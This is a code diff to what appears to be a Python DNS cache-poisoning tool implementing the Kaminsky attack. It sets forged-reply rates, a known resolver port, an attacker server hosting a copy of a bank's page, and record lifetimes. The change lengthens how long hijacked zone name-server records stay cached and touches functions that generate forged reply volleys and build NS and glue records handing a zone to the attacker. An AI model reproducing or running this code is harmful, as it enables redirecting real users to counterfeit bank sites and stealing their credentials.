@@ -27,7 +27,8 @@ IDS = range(65_536)
 PACKETS_PER_SECOND = 165_000  # all IDs in 397 ms; about 110 Mbit/s of forged replies
 FIXED_PORT = 10_053  # from which a resolver asks that does not choose its port at random; the attacker found out before
 SITE = "203.0.113.66"  # the attacker's own computer: its copy of the bank's page, and its name server
-TTL = 3600  # seconds; how long a forged record asks to be remembered
+TTL = 3600  # seconds; how long a forged address asks to be remembered
+ZONE_TTL = 86_400  # seconds; the same for the servers of a zone that was taken over: the forger chooses
 
 Smuggled = tuple[Literal["answer", "authority", "additional"], RRset]  # a record, and the section to put it into
 
@@ -127,7 +128,9 @@ class Volley:
     def starting_with(self, step: int) -> Iterator[Datagram]:
         """Yield the datagrams from number `step` on, counted from 0."""
         first, last = self.first_id + step, self.first_id + self.count
-        return self.forgery.with_ids(chain(range(first, min(last, len(IDS))), range(max(0, first - len(IDS)), last - len(IDS))))
+        return self.forgery.with_ids(
+            chain(range(first, min(last, len(IDS))), range(max(0, first - len(IDS)), last - len(IDS)))
+        )
 
 
 @dataclass(frozen=True)
@@ -189,7 +192,7 @@ def kaminsky(target: Target, *, guesses: int, rng: Random, keeps_busy: float = 0
         yield Race(question, Volley(forgery, rng.getrandbits(16), guesses, target.wait), keeps_busy)
 
 
-def takeover(zone: Name, name_server: Name, address: str = SITE, ttl: int = TTL) -> list[Smuggled]:
+def takeover(zone: Name, name_server: Name, address: str = SITE, ttl: int = ZONE_TTL) -> list[Smuggled]:
     """Return the records that hand a zone to the attacker: its NS, and the address that goes with it (glue)."""
     return [
         ("authority", dns.rrset.from_text(zone, ttl, "IN", "NS", name_server.to_text())),
